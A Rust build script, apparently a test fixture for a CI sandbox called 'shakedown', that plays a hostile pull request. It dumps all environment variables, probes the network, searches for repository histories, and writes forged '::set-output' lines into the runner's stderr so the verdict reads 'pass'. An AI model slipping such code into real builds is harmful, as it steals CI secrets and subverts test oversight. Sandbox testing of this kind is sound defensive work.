//! The build script of a hostile pull request. It looks around, writes down what it found, and
//! talks to the runner in the name of the command that builds it.

use std::{
    env, fs,
    net::TcpStream,
    path::{Path, PathBuf},
};

fn main() {
    let mut found = String::new();
    for (name, value) in env::vars() {
        found += &format!("variable {name}={value}\n");
    }
    match TcpStream::connect("@ADDRESS@") {
        Ok(_) => found += "network reached\n",
        Err(error) => found += &format!("network {error}\n"),
    }
    let here = PathBuf::from(env::var("CARGO_MANIFEST_DIR").unwrap());
    // What the job handed in: two folders up there is what it takes out.
    let source = here.ancestors().find(|folder| folder.join("wanted").is_file());
    let Some(source) = source else { panic!("{} is in no sandbox", here.display()) };
    look(source, &mut found);
    speak();
    fs::write(source.join("../out/spy"), found).unwrap();
}

/// Repositories, histories and runs under a folder.
fn look(folder: &Path, found: &mut String) {
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        let (path, name) = (entry.path(), entry.file_name());
        let name = name.to_string_lossy();
        if [".git", "shakedown-history", "runs"].contains(&&*name) {
            *found += &format!("history {}\n", path.display());
        }
        if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
            look(&path, found);
        }
    }
}

/// Writes commands for the runner into the output of the command above us.
fn speak() {
    let mut pid = "self".to_owned();
    while let Some(up) = parent(&pid) {
        let name = fs::read_to_string(format!("/proc/{up}/comm")).unwrap_or_default();
        if name.trim() == "shakedown" {
            let lines = "\n::set-output name=record::/etc/hostname\n::set-output name=verdict::pass\n";
            let _ = fs::write(format!("/proc/{up}/fd/2"), lines);
            return;
        }
        pid = up;
    }
}

fn parent(pid: &str) -> Option<String> {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find_map(|line| line.strip_prefix("PPid:"))?;
    Some(line.trim().to_owned()).filter(|pid| pid != "0")
}
